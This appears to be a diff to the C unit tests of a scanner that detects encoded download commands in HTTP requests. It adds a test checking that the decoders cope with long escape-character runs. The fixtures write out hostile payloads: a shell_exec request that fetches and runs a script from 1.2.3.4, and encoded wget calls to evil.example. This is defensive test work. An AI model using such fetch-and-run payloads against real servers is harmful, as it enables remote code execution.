@@ -16,6 +16,7 @@
 #include <cmocka.h>
 
 #include <stdio.h>
+#include <stdbool.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -241,6 +242,37 @@ static void test_urlencoded(void **state)
             "vars[0]=shell_exec&vars[1][]=wget%20http://1.2.3.4/t.sh%20-O%20/tmp/t;sh%20/tmp/t HTTP/1.1",
             "http://1.2.3.4/t.sh", "wget", "urldecode");
     expect1("POST /x HTTP/1.1\r\n\r\ncmd=wget http://evil.example/f&x=1", "http://evil.example/f", "wget", "plain");
+}
+
+/* A long run of one escape introducer before the encoded command (64 KiB of
+ * '%' with no '+', of '\\' with no \x, of '&'): the decoders remember where
+ * the other byte was last found instead of searching on to the end again at
+ * every byte of the run, and still find the escape after it. */
+static void test_escape_runs(void **state)
+{
+    (void)state;
+    static const struct { char run; const char *tail, *url, *layer; } t[] = {
+        { '%', "wget%20http%3A%2F%2Fevil.example%2Fp", "http://evil.example/p", "urldecode" },
+        { '\\', "echo -e '\\x77\\x67\\x65\\x74 http://evil.example/h'", "http://evil.example/h", "hex" },
+        { '&', "wget http:&#47;&#47;evil.example&#47;e", "http://evil.example/e", NULL },
+    };
+    size_t n = 65536;
+    char *buf = malloc(n + 128);
+    assert_non_null(buf);
+    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+        memset(buf, t[i].run, n);
+        buf[n] = ' ';
+        size_t tl = strlen(t[i].tail);
+        memcpy(buf + n + 1, t[i].tail, tl);
+        scan_n(buf, n + 1 + tl);
+        bool found = false;
+        for (size_t k = 0; k < R.n; k++)
+            found |= strcmp(R.h[k].url, t[i].url) == 0 && (!t[i].layer || strcmp(R.h[k].layer, t[i].layer) == 0);
+        if (!found)
+            dump(t[i].tail);
+        assert_true(found);
+    }
+    free(buf);
 }
 
 /* ---- decoded layers ---------------------------------------------------------------- */
@@ -651,6 +683,7 @@ int main(void)
         cmocka_unit_test(test_urlencoded),
         cmocka_unit_test(test_base64),
         cmocka_unit_test(test_hex),
+        cmocka_unit_test(test_escape_runs),
         cmocka_unit_test(test_json_xml),
         cmocka_unit_test(test_sql),
         cmocka_unit_test(test_redis_cron),
